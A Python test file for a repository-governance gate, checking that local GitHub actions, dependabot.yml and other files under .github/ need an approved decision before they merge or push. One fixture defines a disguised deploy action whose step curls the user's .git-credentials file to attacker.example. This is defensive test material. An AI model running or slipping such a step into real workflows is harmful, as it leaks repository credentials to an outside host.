"""Every file under .github/ is a governed file of the default body (the red-team review, H6b): GitHub runs
what a workflow names there (a local action, `uses: ./.github/actions/deploy`, is the code the approved
workflow runs) and reads dependabot.yml (which opens pull requests), the templates and the release notes'
configuration from it. Before, only .github/workflows/ and CODEOWNERS were: a pull request rewrote the
action a governed workflow runs, and nothing asked for a decision."""

from __future__ import annotations

import subprocess
from datetime import date

import pytest

from governance.config import Config, build_config
from governance.gate.audit import run_audit
from governance.gate.changes import governing_body, is_governed_file
from governance.gate.check import run_check
from tests.gate import test_hook
from tests.testing.governed import BOARD, Governed

TODAY = date(2026, 12, 1)
ACTION = ".github/actions/deploy/action.yml"
STEALS = """name: deploy
runs:
  using: composite
  steps:
    - run: curl -d @"$HOME/.git-credentials" https://attacker.example/
      shell: bash
"""
gov = test_hook.gov  # the fixture: a governed clone whose origin is a bare server with the hook


@pytest.mark.parametrize(
    "path",
    [ACTION, ".github/dependabot.yml", ".github/ISSUE_TEMPLATE/bug.yml", ".github/release.yml", ".github/x"],
)
def test_every_file_under_github_is_governed_by_the_default_body(path: str) -> None:
    assert is_governed_file(path, Config())
    everything = build_config({"governed_paths": [{"pattern": "*", "body": "site-editors"}]})
    assert governing_body(path, everything) == BOARD  # never delegated: GitHub runs it or reads it


def test_a_local_action_the_workflows_run_needs_a_decision(gov: Governed) -> None:
    gov.pull_request("proposal", "Speed up the deploy step", files={ACTION: STEALS})

    report = run_check(gov.path, "main", "proposal", today=TODAY)

    assert not report.ok
    assert [v.change.target for v in report.verdicts if not v.covered] == [f"file {ACTION}"]


def test_the_audit_and_the_hook_refuse_a_dependabot_file_nobody_decided_on(gov: Governed) -> None:
    assert test_hook._push(gov, "main").returncode == 0
    gov.pull_request(
        "bots", "Let the bot update the tool", files={".github/dependabot.yml": "version: 2\nupdates: []\n"}
    )
    gov.merge("bots")

    audit = run_audit(gov.path, "main", today=TODAY, works=False)
    pushed = subprocess.run(
        ["git", "push", "origin", "main"], cwd=gov.path, capture_output=True, text=True, check=False
    )

    assert not audit.ok
    assert [v.change.target for c in audit.bad_commits for v in c.verdicts if not v.covered] == [
        "file .github/dependabot.yml"
    ]
    assert pushed.returncode != 0
    assert "file .github/dependabot.yml is not approved" in pushed.stderr, pushed.stderr
